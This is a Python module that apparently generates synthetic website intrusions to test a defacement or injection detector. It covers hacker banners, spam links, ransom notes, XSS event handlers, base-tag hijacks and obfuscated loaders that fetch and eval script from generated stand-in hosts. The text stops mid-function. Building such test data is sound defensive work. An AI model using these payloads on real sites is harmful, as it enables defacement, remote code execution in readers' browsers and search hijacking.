"""A list of forms of attack for accuracy.py's --attacks: what intruders with an account in the CMS, a template or
stylesheet editor, the database or an ad slot do to a front page. Each form is f(html, rng, inj) -> html or None."""
import base64, random, re
from html import escape as esc
from urllib.parse import quote

# ---------------------------------------------------------------- words, hosts, names

MESSAGES = [
    "Your silence is over. We were inside for months.", "This newsroom lies. Today the truth speaks.", "Pwned by Night Falcon Crew",
    "Security is an illusion, admin :)", "We own this server. Greetings to all brothers", "STOP THE WAR PROPAGANDA",
    "Bu sayt Qara Şahin qrupu tərəfindən sındırıldı", "Yalan xəbərlərə son! Biz buradayıq", "Haqq gəldi, batil yox oldu",
    "Sitenize girdik, şifreleriniz elimizde", "Kara Kartal Tim buradaydı", "Этот сайт лжёт. Правду скажем мы",
    "Ваши данные у нас. Ждите продолжения", "Сервер под контролем группы Северный Ветер", "ما اینجا هستیم و می‌بینیم", "این سایت توسط سپیدار هک شد",
    "دخلنا ولن نخرج حتى تسقط الأكاذيب", "تم الاستيلاء على الخادم", "Diese Lügenpresse gehört jetzt uns", "Eure Server sind offen wie ein Scheunentor",
    "Votre rédaction ment, nous avons tout", "Piraté par Les Ombres du Sud", "Estamos dentro de sus servidores", "Site invadido pela Legião Cinzenta",
    "Situs ini telah diretas oleh Garuda Hitam", "このサイトは乗っ取られた", "网站已被黑鹰接管", "우리가 이 서버를 장악했다", "האתר הזה בשליטתנו",
    "Այս կայքը մեր ձեռքում է", "ეს საიტი ჩვენს ხელშია", "Strona przejęta. Nie wierzcie im", "Сайт зламано. Слава полеглим",
]
BETS = ["slot gacor hari ini", "deneme bonusu veren siteler", "judi online terpercaya", "онлайн казино без депозита", "canlı bahis giriş", "sicbo maxwin rtp live",
        "buy viagra no prescription", "casino utan licens", "無料カジノ ボーナス", "激安ブランドコピー通販", "togel 4d resmi", "Mostbet Aviator yüklə", "replica watches cheap"]
SYL = ["vor", "nex", "lum", "tak", "bri", "sol", "dek", "pim", "gra", "zor", "fen", "qua", "mil", "rus", "hal", "ody", "kep", "ist", "wan", "juk"]
TLDS = ["ru", "su", "top", "xyz", "icu", "cc", "click", "shop", "site", "online", "info", "pw", "live", "space", "com", "net", "org", "tk", "biz", "cn", "sbs", "cfd"]


def name(rng, a=2, b=4):
    return "".join(rng.choice(SYL) for _ in range(rng.randrange(a, b)))


def host(rng):
    """An address that the outlet never used: a throw-away domain, a bare number, a free hosting place, a look-alike."""
    n = name(rng)
    return rng.choice([
        lambda: f"{n}.{rng.choice(TLDS)}", lambda: f"{n}-{name(rng, 1, 3)}.{rng.choice(TLDS)}", lambda: f"{rng.choice(['cdn', 'js', 'static', 'api', 'img', 'w', 'stat'])}.{n}.{rng.choice(TLDS)}",
        lambda: f"198.51.100.{rng.randrange(2, 250)}", lambda: f"192.0.2.{rng.randrange(2, 250)}:{rng.choice([8080, 8443, 81, 3000])}",
        lambda: f"{n}.pages.dev", lambda: f"{n}.workers.dev", lambda: f"{n}.blogspot.com", lambda: f"{n}.s3.amazonaws.com", lambda: f"{n}.github.io",
        lambda: f"{rng.choice(['jquery', 'bootstrap', 'wordpress', 'cloudflare', 'fonts-gstatic', 'analytics'])}-{n}.{rng.choice(TLDS)}",
    ])()


def url(rng, *ends):
    """A full foreign address with a file of one of these endings."""
    p = rng.choice(["", "a/", "wp-content/uploads/", "i/", "files/", f"{rng.randrange(2015, 2026)}/", "assets/js/", "x/y/", "track/"])
    f = rng.choice([name(rng, 1, 3), f"{rng.randrange(16**6):x}", name(rng, 1, 2) + str(rng.randrange(99))])
    q = rng.choice(["", "", f"?v={rng.randrange(9999)}", f"?id={rng.randrange(16**5):x}"])
    return f"{rng.choice(['https://', 'https://', '//'])}{host(rng)}/{p}{f}{rng.choice(ends or [''])}{q}"


def pic(rng):
    return url(rng, ".jpg", ".png", ".gif", ".webp", ".jpeg")


def inner_pic(html, rng):
    """A picture uploaded to the outlet's own folder."""
    return own_image(html, rng).rsplit("/", 1)[0] + "/" + name(rng) + rng.choice([".jpg", ".png", ".webp", "-1024x576.jpg", ".gif"])


def any_pic(html, rng):
    return rng.choice([pic(rng), inner_pic(html, rng)])


def msg(rng):
    return rng.choice(MESSAGES) + rng.choice(["", "", "!", f" #Op{name(rng, 1, 3).title()}", f" – {name(rng, 1, 3).title()}Team", f" [{rng.randrange(2019, 2027)}]"])


def var(rng):
    return rng.choice(["_0x" + f"{rng.randrange(16**4):x}", rng.choice("abcdefgxyz") + str(rng.randrange(99)), name(rng, 1, 3), "_" + name(rng, 1, 2)])


def coin(rng):
    return "bc1q" + "".join(rng.choice("023456789acdefghjklmnpqrstuvwxyz") for _ in range(38))


def loader(rng, u=None):
    """Javascript that fetches and runs foreign code, in one of the spellings met in the wild."""
    u, v, w = u or url(rng, ".js", "", ".php"), var(rng), var(rng) + "q"
    return rng.choice([
        f"var {v}=document.createElement('script');{v}.src='{u}';{v}.async=1;document.head.appendChild({v});",
        f"(function(d,{w}){{var {v}=d.createElement('scr'+'ipt');{v}.src={w};d.documentElement.appendChild({v})}})(document,'{u}');",
        f"fetch('{u}').then({v}=>{v}.text()).then({v}=>(0,eval)({v}));",
        f"import('{u}');",
        f"var {v}=new XMLHttpRequest;{v}.open('GET','{u}');{v}.onload=function(){{Function({v}.responseText)()}};{v}.send();",
        f"var {v}=new WebSocket('wss://{host(rng)}/');{v}.onmessage=function({w}){{eval({w}.data)}};",
    ])


def deed(rng):
    """Javascript that does the harm itself: writes over the page, leads away, or loads more."""
    m = msg(rng)
    return rng.choice([
        lambda: loader(rng), lambda: loader(rng),
        lambda: f"document.body.innerHTML='<h1>{m}</h1>';",
        lambda: f"location.replace('{url(rng, '.html', '', '.php')}');",
        lambda: f"window['loc'+'ation']='{url(rng, '.html', '/')}';",
        lambda: f"document.querySelectorAll('h1,h2,h3').forEach(function(e){{e.textContent='{m}'}});",
    ])()


# ---------------------------------------------------------------- places in a page

def put(html, i, what):
    return None if i is None else html[:i] + what + html[i:]


def place(html, pattern, end=True):
    m = re.search(pattern, seen(html), re.I)
    return (m.end() if end else m.start()) if m else None


def body_top(html, what):
    i = place(html, r"<body\b[^>]*>")
    if i is None: i = place(html, r"</head\s*>")
    return put(html, place(html, r"<(?:div|header|section|main|table|p|h1)\b", end=False) if i is None else i, what)


def head_top(html, what):
    return put(html, place(html, r"<head\b[^>]*>"), what)


def head_end(html, what):
    return put(html, place(html, r"</head\s*>", end=False), what)


def anywhere(html, what, rng):
    """The top, the middle or the tail of the body."""
    return rng.choice([lambda: body_top(html, what), lambda: middle(html, what, rng), lambda: before_end(html, what)])()


def style_somewhere(html, css, rng):
    """What a field for additional CSS gives: a style element in the head or at the tail."""
    s = f"<style{rng.choice(['', ' type=text/css', ' id=custom-css', ' media=all'])}>{css}</style>"
    return rng.choice([head_end, before_end])(html, s)


def change(html, pattern, new, least=1):
    """Rewrite every match of a pattern that stands where a browser reads markup; None if there are too few."""
    out, at, n = [], 0, 0
    for m in re.finditer(pattern, seen(html), re.I | re.S):
        r = new(html[m.start():m.end()])
        if r is None or r == html[m.start():m.end()]: continue
        out += [html[at:m.start()], r]; at = m.end(); n += 1
    return "".join(out) + html[at:] if n >= least else None


def with_attr(tag, **attrs):
    """A start tag with attributes set; standing first they win over any later ones of the same name."""
    for k in attrs: tag = re.sub(r"\s%s\s*=\s*(?:\"[^\"]*\"|'[^']*'|[^\s>]+)" % k, "", tag, flags=re.I)
    return re.sub(r"^<[\w:-]+", lambda m: m.group(0) + "".join(f' {k}="{esc(v)}"' for k, v in attrs.items()), tag)


def get_attr(tag, k):
    m = re.search(r"\s%s\s*=\s*(?:\"([^\"]*)\"|'([^']*)'|([^\s>]+))" % k, tag, re.I)
    return next((x for x in m.groups() if x is not None), "") if m else None


def plain_img(tag, src):
    """An img tag that shows src and nothing else, whatever lazy loading it had."""
    tag = re.sub(r"\s(?:data-[\w-]*(?:src|lazy|original|url)[\w-]*|srcset|sizes)\s*=\s*(?:\"[^\"]*\"|'[^']*'|[^\s>]+)", "", tag, flags=re.I)
    return with_attr(tag, src=src)


TOKEN = re.compile(r"<!--.*?-->|<(script|style|template|noscript|textarea|title|select)\b.*?</\1\s*>|<[a-z/!?](?:[^>\"']|\"[^\"]*\"|'[^']*')*>|([^<]+)", re.I | re.S)


def texts(html, new, least=1):
    """Rewrite the pieces of text that a reader sees; new gets each and gives its successor or None."""
    n = [0]
    def one(m):
        r = new(m.group(2)) if m.group(2) and m.group(2).strip() else None
        if r is None or r == m.group(2): return m.group(0)
        n[0] += 1
        return r
    out = TOKEN.sub(one, html)
    return out if n[0] >= least else None


def reword(fragment, text):
    """A fragment with its first piece of text replaced and the others emptied."""
    left = [text]
    return texts(fragment, lambda t: left.pop() if left else "")


def elements(html, tag):
    """(start, end of start tag, start of end tag, end) of all elements of one tag, matched up."""
    stack, out = [], []
    for m in re.finditer(r"<(/?)(?:%s)\b[^>]*>" % tag, seen(html), re.I):
        if not m.group(1): stack.append((m.start(), m.end()))
        elif stack: out.append((*stack.pop(), m.start(), m.end()))
    return sorted(out)


def container(html):
    """The element that holds most of the page's text."""
    whole = len(text_of(html))
    for tag in ("main", "div", "table"):
        for e in elements(html, tag)[:40]:
            if e[3] - e[0] > len(html) * 0.2 and len(text_of(html[e[0]:e[3]])) > 0.6 * whole: return e
    return None


def cards(html):
    """The repeated blocks that carry stories: of articles, list items, headings, paragraphs and rows the kind with most text."""
    off = [(e[0], e[3]) for t in ("nav", "footer") for e in elements(html, t)]
    def of(tag):
        out = []
        for e in elements(html, tag):
            n = len(text_of(html[e[1]:e[2]]))
            if 20 < n < 1500 and re.search(r"<a\b", html[e[0]:e[2]], re.I) and (not out or e[0] >= out[-1][3]) and not any(a < e[0] < b for a, b in off): out.append(e)
        return out
    found = [f for f in map(of, ("article", "li", "h[2-4]", "p", "tr")) if len(f) >= 6] or [f for f in [of("a")] if len(f) >= 6]
    return max(found, key=lambda f: sum(len(text_of(html[e[1]:e[2]])) for e in f), default=[])


def cut(html, ranges):
    for a, b in sorted(ranges, reverse=True): html = html[:a] + html[b:]
    return html


def story_links(html, least=30):
    """Start tags of links with a headline's length of text."""
    return [m for m in re.finditer(r"(<a\b[^>]*\bhref\s*=[^>]*>)((?:(?!</a).){1,4000})</a\s*>", seen(html), re.I | re.S) if len(text_of(m.group(2))) >= least]


def relink(html, ms, new):
    for m in sorted(ms, key=lambda m: -m.start()): html = html[:m.start(1)] + new(html[m.start(1):m.end(1)]) + html[m.end(1):]
    return html


# ---------------------------------------------------------------- shown

def css_background(html, rng, inj):
    """The whole page stands on an intruder's picture, set in the stylesheet field, and its blocks turn see-through."""
    return style_somewhere(html, f"html,body{{background:#000 url({any_pic(html, rng)}) {rng.choice(['center/cover fixed', '0 0/300px repeat', 'top/contain no-repeat fixed'])}!important}}"
                                 f"body *{{background-color:transparent!important;color:{rng.choice(['red', 'lime', '#fff'])}!important}}", rng)


def css_all_pictures(html, rng, inj):
    """Every picture on the page shows the same emblem, by a rule of CSS."""
    return style_somewhere(html, f"img,picture img{{content:url('{any_pic(html, rng)}')!important;object-fit:{rng.choice(['cover', 'contain', 'fill'])}!important}}", rng) if html.lower().count("<img") >= 3 else None


def all_pictures_one(html, rng, inj):
    """The media table was updated: all pictures are one and the same picture from the outlet's own host."""
    p = inner_pic(html, rng)
    out = change(html, r"<img\b[^>]*>", lambda t: plain_img(t, p), 3)
    return out and (change(out, r"<source\b[^>]*\bsrcset\b[^>]*>", lambda t: re.sub(r"\sdata-srcset", " data-x", with_attr(t, srcset=p))) or out)


def srcset_hijack(html, rng, inj):
    """Pictures keep their src, but a browser takes the foreign ones from srcset and source."""
    p = pic(rng)
    out = change(html, r"<img\b[^>]*>", lambda t: with_attr(t, srcset=f"{p} 1x, {p} 2x") if rng.random() < 0.8 else t, 3)
    return out and (change(out, r"<source\b[^>]*\bsrcset\b[^>]*>", lambda t: with_attr(t, srcset=p)) or out)


def table_background(html, rng, inj):
    """An old-fashioned table with a background picture and large letters pushes the page down."""
    return body_top(html, f'<table width="100%" height="{rng.randrange(350, 900)}" background="{any_pic(html, rng)}" bgcolor="black"><tr><td align=center valign=middle>'
                          f'<font size="{rng.randrange(5, 8)}" color="{rng.choice(["red", "#0f0", "white"])}" face="Courier New">{msg(rng)}</font></td></tr></table>')


def video_top(html, rng, inj):
    """A film of the intruders' own plays at once across the page."""
    u = url(rng, ".mp4", ".webm")
    src = rng.choice([f'src="{u}">', f'><source src="{u}">', f'poster="{pic(rng)}" src="{u}">'])
    v = f'<video autoplay muted loop playsinline style="width:100%;max-height:{rng.randrange(60, 101)}vh;object-fit:cover" {src}</video>'
    return rng.choice([lambda: body_top(html, v), lambda: middle(html, v, rng)])()


def drawn_emblem(html, rng, inj):
    """A flag or emblem with a motto, drawn by inline SVG: no picture is loaded."""
    c = [f"#{rng.randrange(16**6):06x}" for _ in range(4)]
    shape = rng.choice([f'<circle cx="300" cy="120" r="90" fill="{c[2]}"/>', f'<path d="M300 20l28 86h90l-73 53 28 86-73-53-73 53 28-86-73-53h90z" fill="{c[2]}"/>',
                        f'<rect y="80" width="600" height="80" fill="{c[2]}"/><rect y="160" width="600" height="80" fill="{c[3]}"/>'])
    return rng.choice([body_top, lambda h, w: middle(h, w, rng)])(html, f'<svg viewBox="0 0 600 320" width="100%" style="display:block;background:{c[0]}">{shape}'
                      f'<text x="300" y="300" text-anchor="middle" font-size="26" fill="{c[1]}">{msg(rng)}</text></svg>')


def embedded_object(html, rng, inj):
    """A foreign picture, film or page shown large through object or embed."""
    h = rng.randrange(400, 1000)
    return body_top(html, rng.choice([
        f'<object data="{url(rng, ".svg")}" type="image/svg+xml" width="100%" height="{h}"></object>', f'<embed src="{url(rng, ".svg", ".gif", ".mp4")}" width="100%" height="{h}">',
        f'<object data="{url(rng, ".html")}" type="text/html" style="width:100%;height:{h}px"></object>', f'<svg width="100%" height="{h}"><image href="{pic(rng)}" width="100%" height="100%"/></svg>',
        f'<input type="image" src="{pic(rng)}" style="width:100%">']))


def canvas_banner(html, rng, inj):
    """A message painted by script on a canvas at the top; no word of it in the markup's text."""
    m = base64.b64encode(quote(msg(rng)).encode()).decode()
    v, w = var(rng), var(rng) + "c"
    return body_top(html, f'<canvas id="{v}" width="1200" height="300" style="width:100%"></canvas><script>var {w}=document.getElementById("{v}").getContext("2d");{w}.fillStyle="#{rng.choice(["000", "700", "030"])}";'
                          f'{w}.fillRect(0,0,1200,300);{w}.fillStyle="#fff";{w}.font="bold {rng.randrange(36, 60)}px sans-serif";{w}.fillText(decodeURIComponent(atob("{m}")),40,170)</script>')


def srcdoc_frame(html, rng, inj):
    """A frame whose page is written in its own attribute covers the first screen or a place amid the stories."""
    doc = f"<body style='margin:0;background:{rng.choice(['#000', '#600', '#fff'])};color:{rng.choice(['red', '#0c0'])};text-align:center'><h1>{msg(rng)}</h1><p>{msg(rng)}</p></body>"
    f = f'<iframe srcdoc="{esc(doc)}" width="100%" height="{rng.randrange(300, 900)}" frameborder="0"></iframe>'
    return rng.choice([lambda: body_top(html, f), lambda: middle(html, f, rng)])()


def data_picture(html, rng, inj):
    """A picture carried within its own address (data:), as large as the column, amid the stories or on top."""
    s = f'<svg xmlns="http://www.w3.org/2000/svg" width="900" height="400"><rect width="900" height="400" fill="#{rng.randrange(16**3):03x}"/><text x="40" y="220" font-size="40" fill="#fff">{msg(rng)}</text></svg>'
    u = rng.choice(["data:image/svg+xml;base64," + base64.b64encode(s.encode()).decode(), "data:image/svg+xml," + quote(s)])
    return rng.choice([body_top, lambda h, w: middle(h, w, rng)])(html, rng.choice([f'<img src="{u}" style="width:100%">', f'<div style="height:60vh;background:url({chr(39)}{u}{chr(39)}) center/cover"></div>']))


def dialog_open(html, rng, inj):
    """A dialog stands open over the page with the intruders' words and no way to close it, or a picture in it."""
    inner = rng.choice([f"<h2>{msg(rng)}</h2><p>{msg(rng)}</p>", f'<img src="{any_pic(html, rng)}" style="max-width:90vw"><p>{msg(rng)}</p>'])
    v = "d" + f"{rng.randrange(16**5):x}"
    return anywhere(html, rng.choice([f'<dialog open style="position:fixed;top:10vh;z-index:{rng.choice([999, 2147483647])};width:80vw;background:#111;color:#fff">{inner}</dialog>',
                                      f"<dialog id={v}>{inner}</dialog><script>{v}.showModal()</script>", f"<div popover=manual id={v}>{inner}</div><script>document.getElementById('{v}').showPopover()</script>"]), rng)


def shadow_banner(html, rng, inj):
    """A banner that is in no ordinary text: a shadow tree declared in the markup."""
    t = rng.choice(["div", "section", "aside", "header"])
    return body_top(html, f'<{t}><template shadowrootmode="{rng.choice(["open", "closed"])}"><style>p{{font:bold {rng.randrange(30, 70)}px Arial;background:#{rng.choice(["000", "b00", "040"])};color:#fff;padding:40px;margin:0;text-align:center}}</style>'
                          f'<p>{msg(rng)}</p></template></{t}>')


def css_before_message(html, rng, inj):
    """Words that stand only in CSS, large above or over the page."""
    where = rng.choice(["position:fixed;inset:0;z-index:2147483647;padding-top:40vh", "display:block;padding:60px 20px", "position:fixed;left:0;right:0;bottom:0;z-index:99999;padding:30px"])
    text = "".join(f"\\{ord(c):x} " if ord(c) > 127 or rng.random() < 0.2 else c for c in msg(rng))
    return style_somewhere(html, f"{rng.choice(['body::before', 'html::after', 'body:after'])}{{content:\"{text}\";{where};background:{rng.choice(['#000', 'darkred', '#fff'])};color:{rng.choice(['red', 'lime', 'gold'])};font:bold {rng.randrange(32, 80)}px monospace;text-align:center}}", rng)


def phones_only(html, rng, inj):
    """Readers with phones get a black page with a line; at the editors' desks nothing changes."""
    w = rng.choice([600, 768, 820, 900])
    return style_somewhere(html, f"@media (max-width:{w}px){{body>*{{display:none!important}}body::before{{content:'{msg(rng)}';color:#f00;font-size:9vw}}body{{background:#000 url({any_pic(html, rng)})!important}}}}", rng)


# ---------------------------------------------------------------- said

def ticker(html, rng, inj):
    """A line of theirs runs across the page."""
    m = f" {rng.choice(['***', '•', '☠', '///'])} ".join(msg(rng) for _ in range(rng.randrange(1, 5)))
    return rng.choice([body_top, lambda h, w: middle(h, w, rng)])(html, f'<marquee {rng.choice(["", "behavior=alternate ", "direction=right ", "scrollamount=12 "])}style="background:{rng.choice(["red", "#000", "yellow"])};color:{rng.choice(["#fff", "#0f0", "#00f"])};font-size:{rng.randrange(18, 48)}px">{m}</marquee>')


def alert_box(html, rng, inj):
    """A box with the message stops every reader, as through a hijacked comment or login widget."""
    f = rng.choice(["alert", "confirm", "prompt", "window.alert"])
    call = rng.choice([f"{f}({msg(rng)!r})", f"setTimeout(function(){{{f}({msg(rng)!r})}},{rng.randrange(5) * 500})", f"{f}(decodeURIComponent('{quote(msg(rng))}'))"])
    return anywhere(html, f"<script>{call}</script>", rng)


def menu_labels(html, rng, inj):
    """The entries of the navigation carry the intruders' words."""
    navs = elements(html, "nav") or [e for e in elements(html, "ul") if len(re.findall(r"<a\b", html[e[0]:e[3]], re.I)) >= 4][:1]
    if not navs: return None
    e = max(navs, key=lambda e: len(text_of(html[e[0]:e[3]]))); s = msg(rng)
    new = change(html[e[0]:e[3]], r"<a\b[^>]*>.*?</a\s*>", lambda a: reword(a, s if rng.random() < 0.8 else msg(rng)), 3)
    return new and html[:e[0]] + new + html[e[3]:]


def footer_signature(html, rng, inj):
    """The foot of the page is theirs: the imprint is gone and a signature with contact stands there."""
    f = elements(html, "footer")
    sig = f"<p>{msg(rng)}</p><p>{rng.choice(['Telegram', 'TG', 'Contact', 'Jabber'])}: @{name(rng, 2, 4)} | {rng.choice(['R00ted by', 'Shell by', 'Greetz:', 'Defaced ~'])} {name(rng, 1, 3)} &amp; {name(rng, 1, 3)}</p>"
    if f: return html[:f[-1][1]] + sig + html[f[-1][2]:]
    return before_end(html, f'<div style="text-align:center;background:#000;color:#f00;padding:30px">{sig}</div>')


def heading_css(html, rng, inj):
    """The headlines are still in the markup, but a reader sees one message in the place of each."""
    return style_somewhere(html, f"h1,h2,h3,h4{{font-size:0!important}}h1 *,h2 *,h3 *,h4 *{{font-size:0!important}}h1::before,h2::before,h3::before,h4::before{{content:'{msg(rng)}';font-size:{rng.randrange(18, 34)}px;color:{rng.choice(['red', '#900', '#000'])}}}", rng) \
        if len(re.findall(r"<h[1-4]\b", seen(html), re.I)) >= 3 else None


def paragraphs_one(html, rng, inj):
    """All teasers and paragraphs say one thing; headlines and pictures stay."""
    s = msg(rng)
    return change(html, r"<p\b[^>]*>.*?</p\s*>", lambda p: reword(p, s) if len(text_of(p)) > 25 else None, 4)


def link_texts(html, rng, inj):
    """A third or more of the story links read differently, each with a line of theirs."""
    ms = story_links(html, 25)
    if len(ms) < 6: return None
    for m in sorted(rng.sample(ms, max(4, int(len(ms) * rng.uniform(0.3, 0.9)))), key=lambda m: -m.start()):
        new = reword(html[m.start():m.end()], msg(rng))
        if new: html = html[:m.start()] + new + html[m.end():]
    return html


def word_everywhere(html, rng, inj):
    """REPLACE() over the database: the page's commonest names are insults or slogans now, in every text."""
    count = {}
    for w in re.findall(r"[^\W\d_]{5,}", text_of(html)): count[w] = count.get(w, 0) + 1
    words = [w for w in sorted(count, key=lambda w: -count[w])[:rng.randrange(8, 20)] if count[w] >= 3]
    if len(words) < 3: return None
    swap = {w: rng.choice(["LIARS", "ВОРЫ", "yalançılar", "TRAITORS", "الكاذبون", "Mörder", "VENDUS", "دروغگو", "corruptos"]) for w in words}
    return texts(html, lambda t: re.sub(r"[^\W\d_]{5,}", lambda m: swap.get(m.group(0), m.group(0)), t), 8)


def social_tags(html, rng, inj):
    """What is told about the page when it is shared or found: description, title and picture are the intruders'."""
    s, p = msg(rng), any_pic(html, rng)
    def tag(t):
        k = (get_attr(t, "property") or get_attr(t, "name") or "").lower()
        if k in ("description", "og:description", "twitter:description", "og:title", "twitter:title", "keywords", "og:site_name"): return with_attr(t, content=s)
        return with_attr(t, content=p) if k in ("og:image", "twitter:image", "og:image:url", "twitter:image:src") else None
    return change(html, r"<meta\b[^>]*>", tag, 2) or head_end(html, f'<meta name="description" content="{esc(s)}"><meta property="og:title" content="{esc(s)}"><meta property="og:image" content="{p}">')


def title_only(html, rng, inj):
    """The tab and the search result name the page's new masters; the body is as it was."""
    new = rng.choice([msg(rng), f"0wn3d by {name(rng)}", f"{name(rng).upper()} was here", f"~ {msg(rng)} ~"])
    return retitle(html, esc(new)) if re.search(r"<title", seen(html), re.I) else None


def alt_and_tooltips(html, rng, inj):
    """Whoever points at a picture or has it read aloud gets the message; so in all captions."""
    s = msg(rng)
    out = change(html, r"<img\b[^>]*>", lambda t: with_attr(t, alt=s, title=s), 3)
    return out and (change(out, r"<figcaption\b[^>]*>.*?</figcaption\s*>", lambda c: reword(c, s)) or out)


def ransom_note(html, rng, inj):
    """A note amid or above the stories asks for coins and gives a deadline."""
    n = rng.choice(["All your articles and subscriber data have been copied and encrypted. Pay {a} BTC to {c} within {d} days.", "Bütün məlumatlarınız şifrələnib. {d} gün ərzində {c} ünvanına {a} BTC göndərin.",
                    "Ваша база данных выгружена и удалена. Переведите {a} BTC на {c}, срок {d} дня.", "Ihre Datenbank wurde gesichert und gelöscht. {a} BTC an {c}, Frist {d} Tage.", "Verileriniz şifrelendi. {d} gün içinde {c} adresine {a} BTC gönderin."])
    t = n.format(a=round(rng.uniform(0.02, 3), 2), c=coin(rng), d=rng.randrange(2, 8))
    return rng.choice([body_top, lambda h, w: middle(h, w, rng)])(html, rng.choice([f"<h2>{t}</h2>", f'<div class="alert" role="alert"><strong>{t}</strong></div>', f"<pre>{t}\n\n{name(rng)}@onionmail.org</pre>", f"<p><b>README</b><br>{t}</p>"]))


def lead_story_taken(html, rng, inj):
    """The first stories, title, picture and link, are the intruders' own, in the outlet's own form."""
    cs = cards(html)[:rng.randrange(2, 5)]
    if len(cs) < 2: return None
    h, p = url(rng, ".html", "/"), any_pic(html, rng)
    for e in reversed(cs):
        t = reword(html[e[0]:e[3]], msg(rng))
        if not t: continue
        t = re.sub(r"<img\b[^>]*>", lambda m: plain_img(m.group(0), p), re.sub(r"<a\b[^>]*>", lambda m: with_attr(m.group(0), href=h), t, flags=re.I), flags=re.I)
        html = html[:e[0]] + t + html[e[3]:]
    return html


def backwards(html, rng, inj):
    """All writing runs backwards, letter for letter."""
    if rng.random() < 0.5: return style_somewhere(html, "body,body *{direction:rtl!important;unicode-bidi:bidi-override!important}" if not re.search(r"<html[^>]*rtl", html, re.I) else "body,body *{direction:ltr!important;unicode-bidi:bidi-override!important}", rng)
    return texts(html, lambda t: "\u202e" + t + "\u202c" if len(t) > 5 else None, 8)


def garbled(html, rng, inj):
    """The texts of the database come out as rubbish: encrypted, question marks, or shifted letters."""
    how = rng.choice([lambda t: base64.b64encode(t.strip().encode("utf-8", "replace")).decode(), lambda t: re.sub(r"\w", "?", t), lambda t: re.sub(r"\w", lambda m: chr(0x2580 + ord(m.group(0)) % 32), t),
                      lambda t: re.sub(r"[A-Za-z]", lambda m: chr((ord(m.group(0)) | 32) % 26 + 97), t) if t.isascii() else re.sub(r"\w", "�", t)])
    return texts(html, lambda t: how(t) if "&" not in t and len(t) > 5 else None, 8)


def spam_in_sight(html, rng, inj):
    """A block of links to betting houses or pills stands open at the foot or amid the stories."""
    items = [f'<a href="{url(rng, "/", "", ".html")}"{rng.choice(["", " rel=dofollow", " target=_blank"])}>{w}</a>' for w in rng.sample(BETS, rng.randrange(5, len(BETS)))]
    return rng.choice([before_end, lambda h, w: middle(h, w, rng)])(html, f"<div{rng.choice(['', ' class=links', ' class=widget'])}>" + rng.choice([" | ", "<br>", ", ", " "]).join(items) + "</div>")


def search_takeover(html, rng, inj):
    """Search engines and their readers find a betting house: title, description, canonical and AMP address."""
    w, u = rng.sample(BETS, 3), f"https://{host(rng)}/"
    out = retitle(html, f"{w[0].title()} | {w[1]} {rng.randrange(2023, 2027)}")
    out = change(out, r"<meta\b[^>]*name=[\"']?description[^>]*>", lambda t: with_attr(t, content=" ".join(w))) or out
    out = change(out, r"<link\b[^>]*rel=[\"']?(?:canonical|amphtml)[^>]*>", lambda t: "") or out
    return head_end(out, f'<link rel="canonical" href="{u}"><link rel="amphtml" href="{u}amp/">')


# ---------------------------------------------------------------- loaded

def event_in_field(html, rng, inj):
    """A field of a story or comment carries an element whose event runs foreign code at once."""
    js = esc(deed(rng))
    t = rng.choice([f'<img src={rng.choice(["x", "/0", "a.gif"])} onerror="{js}">', f'<svg/onload="{js}">', f'<svg onload="{js}" width=0 height=0></svg>', f'<details open ontoggle="{js}"></details>', f'<style onload="{js}"></style>',
                    f'<video><source onerror="{js}"></video>', f'<input autofocus onfocus="{js}" style="width:0;border:0">', f'<iframe onload="{js}" hidden></iframe>', f'<img src="data:," onerror="{js}" hidden>'])
    hs = [m.start() for m in re.finditer(r"</h[1-4]\s*>|</a\s*>|</p\s*>", seen(html), re.I)]
    return put(html, rng.choice(hs[:60]), t) if hs else anywhere(html, t, rng)


def body_event(html, rng, inj):
    """The body's own tag runs code when the page has loaded or is shown."""
    return change(html, r"<body\b[^>]*>", lambda t: with_attr(t, **{rng.choice(["onload", "onpageshow"]): deed(rng)}))


def module_import(html, rng, inj):
    """Modules, directly or through a map of names, are taken from a foreign place."""
    u, n = "https://" + host(rng) + f"/{name(rng)}.mjs", name(rng)
    return rng.choice([head_end, before_end])(html, rng.choice([f'<script type="module" src="{u}"></script>', f'<script type="module">import "{u}"</script>', f'<script type=module>import {{{n}}} from "{u}";{n}()</script>',
                       f'<script type="importmap">{{"imports":{{"{n}":"{u}"}}}}</script><script type="module">import "{n}"</script>']))


def foreign_style(html, rng, inj):
    """Colours, letters and what is seen of the page come from a foreign stylesheet or font."""
    u = url(rng, ".css")
    s = rng.choice([f'<link rel="stylesheet" href="{u}">', f'<style>@import url({u});</style>', f"<style>@import '{u}';</style>", f"<style>@font-face{{font-family:x;src:url({url(rng, '.woff2', '.ttf')})}}*{{font-family:x!important}}</style>",
                    f'<link rel=stylesheet type="text/css" media="print" onload="this.media=\'all\'" href="{u}">'])
    return rng.choice([head_end, lambda h, w: middle(h, w, rng), before_end])(html, s)


def base_hijack(html, rng, inj):
    """One base tag: every relative link, script and picture of the page is now asked of a foreign host."""
    if len(re.findall(r"<(?:a|img|script|link)\b[^>]*?\s(?:href|src)\s*=\s*[\"']?(?!https?:|//|#|data:|javascript:|mailto:)[\w./]", html, re.I)) < 8: return None
    u = f"https://{host(rng)}/"
    return change(html, r"<base\b[^>]*\bhref[^>]*>", lambda t: with_attr(t, href=u)) or head_top(html, f'<base href="{u}">')


def script_from_data(html, rng, inj):
    """A script whose source is written in its address."""
    b = base64.b64encode(deed(rng).encode()).decode()
    return anywhere(html, rng.choice([f'<script src="data:text/javascript;base64,{b}"></script>', f'<script src=data:application/javascript;base64,{b} defer></script>', f'<script type=module>import("data:text/javascript;base64,{b}")</script>',
                                      f'<script>var u=URL.createObjectURL(new Blob([atob("{b}")],{{type:"text/javascript"}})),s=document.createElement("script");s.src=u;document.head.append(s)</script>']), rng)


def veiled_script(html, rng, inj):
    """Inline code that is only numbers or rubbish until it decodes and runs itself, in the head or among the stories."""
    js = deed(rng)
    try: b = base64.b64encode(js.encode("latin-1")).decode()
    except UnicodeEncodeError: b = base64.b64encode(f"eval(decodeURIComponent('{quote(js)}'))".encode()).decode()
    k, v = rng.randrange(1, 9), var(rng)
    s = rng.choice([f"eval(String.fromCharCode({','.join(str(ord(c)) for c in js)}))", f"Function(atob('{b}'))()", f"setTimeout(atob('{b}'),{rng.randrange(2000)})", f"[]['filter']['constructor'](atob('{b}'))()",
                    f"var {v}=[{','.join(str(ord(c) + k) for c in js)}];eval({v}.map(function(c){{return String.fromCharCode(c-{k})}}).join(''))", f"eval(unescape('{''.join('%%%02x' % ord(c) if ord(c) < 256 else '%%u%04x' % ord(c) for c in js)}'))"])
